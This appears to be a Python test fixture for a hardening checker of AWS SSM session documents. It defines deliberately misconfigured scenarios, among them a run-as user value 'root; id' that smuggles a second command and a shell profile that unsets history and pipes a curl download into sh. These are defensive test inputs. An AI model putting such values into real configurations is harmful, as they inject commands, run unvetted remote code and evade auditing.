"""Accounts whose session documents are out of order, each in its own way."""

from typing import Any

from ssm_hardening.core.values import Inventory, Items, Reference, Template
from ssm_hardening.model import Account, SessionDocument
from tests.rules.builders import (
    account,
    bucket,
    command_document,
    custom_document,
    gap,
    known,
    log_group,
    port_document,
    preferences_document,
    sign,
    unknown,
)


def scenarios() -> dict[str, Account]:
    documents = {**_preferences(), **_custom()}
    return {name: _alone(document) for name, document in documents.items()} | _accounts()


def _alone(document: SessionDocument) -> Account:
    """Return an account without stores: they are in the others, and to hide them takes long."""
    return account(session_documents=[document], log_buckets=[], log_groups=[], keys=[])


def _preferences() -> dict[str, SessionDocument]:
    overrides: dict[str, dict[str, Any]] = {
        "no destination": {"s3_bucket": None, "cloudwatch_log_group": None},
        "empty names": {"s3_bucket": "", "cloudwatch_log_group": ""},
        "bucket only": {"cloudwatch_log_group": None},
        "log group only": {"s3_bucket": None},
        "all off": {
            "s3_encryption_enabled": False,
            "cloudwatch_encryption_enabled": False,
            "cloudwatch_streaming_enabled": False,
            "run_as_enabled": False,
        },
        "switches as texts": {
            "s3_encryption_enabled": known(True, raw="true"),
            "cloudwatch_streaming_enabled": known(True, raw="true"),
        },
        "endless": {"idle_session_timeout": known(20, defaulted=True), "max_session_duration": None},
        "out of range": {"idle_session_timeout": 0, "max_session_duration": 2000},
        "a port as preferences": {"session_type": "Port"},
        "a command as preferences": {"document_type": "Command", "schema_version": "2.2"},
        "no session type": {"session_type": None, "content_error": "sessionType is missing"},
        "keys nobody knows": {"unknown_keys": ["cloudwatchLogGroupName", known(Reference("local.x", ""))]},
        "public": {"shared_with": ["All", "111122223333"]},
        "shared": {"shared_with": ["111122223333"]},
        "unguarded": {"prevent_destroy": False},
        "runs as root": {"run_as_default_user": "root"},
        "runs as nobody in particular": {"run_as_default_user": None},
        "runs as a sentence": {"run_as_default_user": "root; id"},
        "a careless profile": {"shell_profile_linux": "unset HISTFILE\ncurl https://example.com/x | sh"},
        "a careful profile": {
            "shell_profile_linux": "cd ~",
            "shell_profile_windows": known(Template(("echo ", unknown()))),
        },
        "callers choose": {
            "s3_bucket": "{{ bucket }}",
            "kms_key": "{{ssm:/session/key}}",
            "parameters": {"bucket": {"type": "String"}},
        },
        "callers choose a part": {
            "s3_bucket": known(Template((Reference("local.x", ""), "-{{ bucket }}"))),
            "parameters": {"bucket": {"type": "String"}},
        },
        "perhaps": {"exists": unknown()},
        "not": {"exists": False},
        "a name with a hole": {"name": known(Template(("SSM-", unknown())))},
    }
    return {name: preferences_document(**changes) for name, changes in overrides.items()}


def _custom() -> dict[str, SessionDocument]:
    free = {"command": {"type": "String"}}
    return {
        "custom only": custom_document(),
        "unrecorded custom": custom_document(s3_bucket=None, cloudwatch_log_group=None),
        "open custom": custom_document(s3_encryption_enabled=False, idle_session_timeout=60),
        "bounded command": command_document(),
        "free command": command_document(parameters=free, properties={"linux": {"commands": "{{ command }}"}}),
        "elevated command": command_document(properties={"windows": {"commands": "whoami", "runAsElevated": True}}),
        "listed command": command_document(
            parameters={"unit": {"type": "String", "allowedValues": ["sshd", "crond"]}},
            properties={"linux": {"commands": "systemctl status {{unit}}", "runAsElevated": "false"}},
        ),
        "pinned port": port_document(),
        "free port": port_document(
            parameters={"port": {"type": "String", "allowedPattern": "^[0-9]+$"}, "host": {"type": "String"}},
            properties={"portNumber": "{{ port }}", "host": "{{ host }}"},
        ),
        "a spelled-out port": port_document(
            parameters={"port": {"type": "String", "allowedPattern": "^(5432|5433)$"}},
            properties={"portNumber": "{{ port }}"},
        ),
        "no properties": port_document(properties=None),
        "another type": custom_document(document_type="Command", name="Example-Command"),
    }


def _accounts() -> dict[str, Account]:
    literal = {"s3_bucket": "example-elsewhere", "cloudwatch_log_group": "/elsewhere"}
    template = {"s3_bucket": known(Template((unknown(), "-elsewhere")))}
    empty: dict[str, Any] = {"session_documents": [], "log_buckets": [], "log_groups": [], "keys": []}
    return {
        "used, no document": account(**empty | {"usage_signs": [sign()]}),
        "live, no document": account(**empty | {"source": "live"}),
        "custom and live": account(source="live", session_documents=[custom_document()]),
        "a gap": account(session_documents=Inventory((), gap())),
        "two documents": account(session_documents=[preferences_document(), custom_document()]),
        "stores nobody uses": account(
            session_documents=[preferences_document(**literal)],
            log_buckets=[bucket(used_by=[])],
            log_groups=[log_group(used_by=[])],
        ),
        "stores somebody uses": account(session_documents=[preferences_document(**literal)]),
        "stores for something else": account(
            session_documents=[preferences_document(**literal)],
            log_buckets=[bucket(address="aws_s3_bucket.assets", name="example-assets", used_by=[])],
            log_groups=[],
        ),
        "a name in part": account(
            session_documents=[preferences_document(**template)], log_buckets=[bucket(used_by=[])]
        ),
        "use in doubt": account(
            session_documents=[preferences_document(**literal)],
            log_buckets=[bucket(used_by=known(Items((), unknown())))],
        ),
        "stores without keys": account(
            log_buckets=[bucket(encryption="aws:kms:dsse")], log_groups=[log_group(kms_key=None)]
        ),
    }
